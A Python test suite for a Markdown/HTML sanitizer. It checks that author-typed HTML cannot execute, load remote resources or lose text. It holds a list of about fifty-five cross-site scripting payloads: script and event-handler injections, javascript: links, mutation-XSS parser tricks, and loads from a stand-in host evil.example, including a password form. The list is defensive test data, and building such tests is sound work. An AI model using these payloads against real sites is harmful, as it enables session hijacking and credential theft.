"""HTML that an author typed cannot act, hide, load or break the page, and its text is not lost."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portalgen.content.markdown.body import parse_body, plain_text, render_body
from portalgen.content.markdown.html import ALLOWED
from tests.content.markdown.markdown_help import codes, elements, render, resolve, shown

HARMLESS = ALLOWED | {"input", "label"}
ATTRIBUTES = {
    *"href rel title id class src alt width height loading decoding type checked disabled role tabindex aria-label lang".split(),
    *"dir colspan rowspan scope start reversed value open datetime span".split(),
}

HOSTILE = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</script>
<script
src="//evil.example/x.js"></script>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" style="position:fixed">
<img src=x onerror=alert(1)//
<img srcset="//evil.example/x 1x">
<picture><source srcset=//evil.example/x><img src=a.png></picture>
<a href="javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="//evil.example">x</a>
<a href="x" onclick="alert(1)" ping="//evil.example" target=_blank>x</a>
<iframe src="//evil.example"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data=x><embed src=x></object>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css"; body{display:none}</style>
<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>
<textarea></textarea><script>alert(1)</script>
<title></title><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><td><a href="x"><table><td>y
<div style="background:url(//evil.example)">x</div>
<p style="-moz-binding:url(x)" class="callout" id="search">x</p>
<div id=__proto__ name=constructor>x</div>
<body onload=alert(1)>
<video src=//evil.example/x autoplay onplay=alert(1)><track src=x></video>
<audio src=//evil.example/x></audio>
<isindex action=x>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<?php echo 1 ?><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE html><script>alert(1)</script>
</section></main></body></html><script>alert(1)</script>
<b><i></b><script>alert(1)</script></i>
<a title="</a><script>alert(1)</script>">x</a>
[x](<"onmouseover="alert(1)>)
![x](a.png "\\" onerror=alert(1) x=\\"")
![" onerror="alert(1)](a.png)
`<script>alert(1)</script>`
[x]: javascript:alert(1) "t"
<https://example.org/"onclick="alert(1)>
""".strip().split("\n")


def assert_harmless(html: str) -> None:
    """Fail where a browser would make of `html` anything that acts, loads from elsewhere, or is not on the lists."""
    for element in elements(html):
        assert element.tag in HARMLESS, (element.tag, html)
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, (name, html)
            check_attribute(element, name, value)


def check_attribute(element: Any, name: str, value: str) -> None:
    if name == "id":
        assert value.startswith(("b-", "footnote-b-", "footnote-ref-b-"))
    elif name == "src":
        assert re.match(r"[a-z]+:|//", value) is None
    elif name == "href":
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
        assert scheme is None or scheme[1] in ("https", "http", "mailto", "tel")
        assert not value.startswith("//")
        if scheme and scheme[1].startswith("http"):
            assert element.get("rel") == "noopener noreferrer"


def render_anything(text: str) -> str:
    return render_body(parse_body(text, "a.md")[0], resolve, name="b").at("")


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "around",
    [
        "{}",
        "text {} text\n\n# h\n",
        "- {}\n- b\n",
        "> {}",
        "| a |\n|---|\n| {} |",
        "<div>\n{}\n</div>\n",
        "*{}*",
        "[{}](plan.pdf)",
        "# {}",
    ],
)
def test_hostile_html_is_harmless(text: str, around: str) -> None:
    assert_harmless(render_anything(around.format(text)))


def test_all_hostile_lines_together_are_harmless() -> None:
    assert_harmless(render_anything("\n\n".join(HOSTILE)))
    assert_harmless(render_anything("\n".join(HOSTILE)))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE,
                "<",
                ">",
                "<!--",
                "-->",
                "`",
                "\n",
                "\n\n",
                "\\",
                '"',
                "'",
                "<b",
                "</",
                "<svg>",
                "</svg>",
                "&lt;",
                "- ",
                "> ",
                "    ",
                "<p>",
                "</p>",
                "<table>",
                "<td>",
                "|",
                "[",
                "](",
                ")",
            ]
        ),
        max_size=12,
    )
)
def test_no_mixture_of_hostile_pieces_does_harm(pieces: list[str]) -> None:
    assert_harmless(render_anything("".join(pieces)))


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("<font color=red>x</font>", "refused-html"),
        ("<p onclick=x>x</p>", "refused-html"),
        ("<p data-x=y>x</p>", "refused-html"),
        ("<iframe src=x>x</iframe>", "refused-html"),
        ("<form><input>x</form>", "refused-html"),
        ("<a href='blob:x'>x</a>", "refused-link"),
    ],
)
def test_what_is_refused_is_said_and_its_text_stays(text: str, code: str) -> None:
    assert code in codes(text)
    assert shown(render_anything(text)) == "x"


def test_a_style_is_taken_out_without_a_word() -> None:
    assert codes("<p style='color: red'>x</p>") == []
    assert render("<p style='color: red'>x</p>").strip() == "<p>x</p>"


def test_the_place_of_a_refused_tag_is_told() -> None:
    problems = parse_body("a\n\n- b\n  c <font>d</font>\n", "a.md", first_line=8)[1]
    assert [str(problem.place) for problem in problems] == ["a.md:11:5"]


@pytest.mark.parametrize(
    "text",
    [
        "Vec<T> and Map<K, V>",
        "write <your name> here",
        "<kubelet> and </kubelet>",
        "the <link to the report> and a <data directory>",
        "a < b and c > d",
        "List<Vec<u8>>",
        '<FullProductName ProductID="x">openEuler</FullProductName>',
        "1 <2 3> 4",
        "<?xml version='1.0'?>",
        "<!DOCTYPE cvrf>",
        "x <- y -> z",
    ],
)
def test_what_is_no_element_is_text(text: str) -> None:
    assert codes(text) == []
    assert shown(render(text)) == text
    assert "<p>" in render(text)


def test_an_unknown_element_alone_on_a_line_does_not_turn_markdown_off() -> None:
    html = render("<package>\n**bold**\n</package>\n")
    assert "<strong>bold</strong>" in html
    assert shown(html) == "<package> bold </package>"


def test_allowed_html_keeps_its_meaning() -> None:
    text = (
        "<h2 align=center>Heading</h2>\n\n<table><tr><th colspan=2 align=right>a</th></tr></table>\n\n"
        "<details open><summary>More</summary>\n\n**bold**\n\n</details>\n\nH<sub>2</sub>O <kbd>Ctrl</kbd> a<br>b <s>c</s> <tt>d</tt>\n"
    )
    html = render(text)
    assert codes(text) == []
    assert '<h3 class="align-center">Heading</h3>' in html
    assert '<th colspan="2" class="align-right">a</th>' in html
    assert [element.tag for element in elements(html) if element.tag in ("details", "summary", "strong")] == [
        "details",
        "summary",
        "strong",
    ]
    for part in ("<sub>2</sub>", "<kbd>Ctrl</kbd>", "a<br>b", "<s>c</s>", "<code>d</code>"):
        assert part in html


def test_an_element_left_open_ends_with_the_body_and_inline_ones_with_the_paragraph() -> None:
    html = render("<div>\n\none <b>two\n\nthree\n\n</section>\n\nfour </div></div></div> five")
    page = f"<main>{html}</main><footer></footer>"
    assert [element.tag for element in elements(page)][-1] == "footer"
    assert html.count("<b>") == html.count("</b>") == 1
    assert "<b>two</b>" in html


def test_many_list_items_without_end_tags_are_not_nested() -> None:
    text = (
        "<ul>"
        + "<li>x" * 100
        + "</ul>\n\n<table>"
        + "<tr><td>y<td>z" * 100
        + "</table>\n\n"
        + "<a name=q>\n\n" * 100
    )
    assert codes(text) == []
    assert render(text).count("<li>") == 100


def test_a_link_in_html_leads_to_the_published_page() -> None:
    html = render(
        '<a href="../meetings/kickoff.md#Agenda" title="t">minutes</a> <img src=plan.png width=120 height=80px alt="the plan">'
    )
    assert '<a href="meetings/kickoff.html#Agenda" title="t">minutes</a>' in html
    assert '<img src="files/DOC-1/plan.png" alt="the plan" width="120" height="80"' in html


def test_entities_are_decoded_once() -> None:
    assert shown(render("&lt;b&gt; &amp;lt; <p>&lt;i&gt; &amp;lt;</p>")) == "<b> &lt; <i> &lt;"


def test_a_script_without_an_end_is_an_error() -> None:
    assert "unclosed-html" in codes("a <script> b\n\nc")
    assert "c" in shown(render_anything("a <script> b\n\nc"))
    assert "unclosed-html" in codes("<style>\na\n\nb")


WORDS = [f"word{number}" for number in range(40)]
MARKS = [
    "\n",
    "\n\n",
    " ",
    "*",
    "**",
    "_",
    "`",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "#",
    "- ",
    "> ",
    "1. ",
    "    ",
    "|",
    "\n|---|---|\n",
    ":",
    "~~",
    "\\",
    "&",
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "[^1]",
    "\n\n[^1]: ",
    "```\n",
    "[[",
    "]]",
    "~",
    "=",
    "---",
    "\n: ",
    "[x] ",
    "://",
    "<td>",
    "<p>",
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(WORDS), st.sampled_from(MARKS)), max_size=40))
def test_no_word_is_lost_without_a_word_about_it(pieces: list[str]) -> None:
    text = "".join(pieces)
    body, problems = parse_body(text, "a.md")
    if problems:
        return
    visible = plain_text(body) + " ".join(link.target + link.fragment for link in body.links)
    defined = " ".join(re.findall(r"\[[^\]]*\]:.*|(?:```|~~~)[^\n]*|\]\([^)]*\)|<[^>]*>", text))
    for word in set(re.findall(r"word\d+", text)):
        assert word in visible or word in defined, (word, text, visible)
